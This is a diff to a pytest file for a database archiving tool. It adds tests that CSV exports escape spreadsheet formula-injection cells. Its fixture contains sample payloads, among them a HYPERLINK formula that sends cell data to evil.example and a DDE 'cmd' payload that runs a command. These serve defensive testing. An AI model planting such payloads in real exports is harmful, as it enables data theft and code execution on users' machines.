@@ -15,6 +15,8 @@ import pytest
 
 from support.oracles import (LISTED, ROWS_OF, Token, after_anonymize_contacts, after_anonymize_requests, after_delete,
                              due_contacts, due_requests, reporting_numbers, table_digests, tokens_in)
+from support.small import SCHEMA, archived, model
+from support.small import policy as small_policy
 
 DEPTH = "18 months"
 # Several batches by two workers: what holds for one statement has to hold for the seams too.
@@ -257,7 +259,7 @@ def test_delete_contacts(daemon, mode, delimiter, bom):
 
 @pytest.mark.parametrize("mode", ["listed", "full"])
 def test_export_changes_nothing(daemon, mode):
-    d = daemon(policies=[policy("export", archive=mode)], limits=LIMITS)
+    d = daemon(policies=[policy("export", archive=mode)], limits=LIMITS, archives={"formulas": "keep"})
     due, digests = due_contacts(d.pg, d.db, DEPTH), table_digests(d.pg, d.db)
     wanted = {name: as_texts(d, *ROWS_OF[name], due) for name in ROWS_OF if mode == "full" or name in LISTED}
     d.once()
@@ -270,6 +272,57 @@ def test_export_changes_nothing(daemon, mode):
     d.configure(policies=[policy("export", name="second", archive=mode)])
     d.once()
     assert last_job(d)["candidates"] == len(due)
+
+
+# A value of a text column, and its cell in an export.
+FORMULAS = {
+    1: ('=HYPERLINK("http://evil.example/?x="&A2,"click")', True), 2: ("-2+3+cmd|' /C calc'!A0", True),
+    3: ("\t=1+1", True), 4: ("\r=1", True), 5: ("\n=1", True), 6: ("@SUM(1)", True), 7: ("+33 1 00", True),
+    8: ("\ufeff=1", True), 9: ("  =1", True), 10: ("\uff1d1+1", True), 11: ("-5;=1", True), 12: ("-", True),
+    13: ("=" + "x" * 100000, True), 14: ("-5\n", True), 15: ("=é日本", True),
+    20: ("-5", False), 21: ("+33123456789", False), 22: ("-1,50", False), 23: ("-3.25", False), 24: ("a=b", False),
+    25: ("", False), 26: ("2015-01-01", False), 27: (" a", False), 28: ("a\r\n=b", False), 29: (None, False), 30: ("'=1", False)}
+ODD_COLUMNS = """;
+    CREATE TYPE mood AS ENUM ('=sad', 'gay'); CREATE DOMAIN remark AS varchar(20);
+    CREATE TYPE pair AS (a int, b text);
+    ALTER TABLE contact ADD padded char(8), ADD n int, ADD price numeric, ADD day date, ADD mood mood, ADD remark remark,
+        ADD json json, ADD tags text[], ADD pair pair, ADD flag boolean, ADD doc xml, ADD raw bytea;
+    INSERT INTO contact (id, padded, n, price, day, mood, remark, json, tags, pair, flag, doc, raw, created)
+    VALUES (31, '=1', -5, -1.5, '2015-01-01', '=sad', '@x', '-5', '{=1}', (NULL, NULL), true, '<a/>', '\\x3d', '2015-01-01')"""
+ODD_ROW = ("31", "", "", "2015-01-01 00:00:00+00", "'=1      ", "-5", "-1.5", "2015-01-01", "'=sad", "'@x", "-5", "{=1}",
+           "(,)", "t", "<a/>", r"\x3d")
+
+
+def formulas(make, *policies, **kwargs):
+    d = make(SCHEMA + ODD_COLUMNS, model(), *policies, limits={"max_share": 1.0}, **kwargs)
+    for key, (text, _) in FORMULAS.items():
+        d.pg.sql(d.db, "INSERT INTO contact (id, name) VALUES (%s, %s)", (key, text))
+    d.pg.sql(d.db, "INSERT INTO request (contact_id, at, status) SELECT id, '2015-01-01', 'closed' FROM contact")
+    d.once()
+    return d, {int(row[0]): row for row in archived(d, "contact")}
+
+
+def test_no_cell_of_an_export_is_a_formula(make):
+    d, rows = formulas(make, small_policy("export", archive="full"))
+    assert {key: rows[key][1] for key in FORMULAS} == \
+        {key: ("'" if inert else "") + (text or "") for key, (text, inert) in FORMULAS.items()}
+    assert rows[31] == ODD_ROW
+    # NULL and the empty text are told apart as before.
+    lines = (d.archives / d.jobs()[-1]["archive_path"] / "contact.csv").read_text("utf-8-sig").splitlines()
+    assert any(line.startswith('25;"";') for line in lines) and any(line.startswith("29;;") for line in lines)
+    assert d.ctl("archive", "restore", d.jobs()[-1]["id"], check=False).returncode == 1
+
+
+@pytest.mark.parametrize("action, formulas_are", [("export", "keep"), ("delete_contacts", "text")])
+def test_cells_as_they_are(make, action, formulas_are):
+    """Where the configuration says so, and always where the archive can be restored."""
+    d, rows = formulas(make, small_policy(action, archive="full"), archives={"formulas": formulas_are})
+    assert {key: rows[key][1] for key in FORMULAS} == {key: text or "" for key, (text, _) in FORMULAS.items()}
+    assert rows[31] == tuple(cell.lstrip("'") for cell in ODD_ROW)
+    if action == "delete_contacts":
+        d.ctl("archive", "restore", d.jobs()[-1]["id"])
+        assert dict(d.pg.sql(d.db, "SELECT id, name FROM contact WHERE id < 31")) == \
+            {key: text for key, (text, _) in FORMULAS.items()}
 
 
 def test_an_archive_with_more_workers_than_batches(daemon):
@@ -300,7 +353,7 @@ def in_interval(d, first, last):
 @pytest.mark.parametrize("action, archive", [
     ("delete_contacts", "full"), ("delete_contacts", None), ("anonymize_contacts", None), ("export", None)])
 def test_manual_action(daemon, action, archive):
-    d = daemon(limits=LIMITS)
+    d = daemon(limits=LIMITS, archives={"formulas": "keep"})
     first, last = d.pg.sql(d.db, "SELECT current_date - 800, (current_date - 800 + interval '1 month - 1 day')::date")[0]
     due, before = in_interval(d, first, last), tokens(d)
     assert due
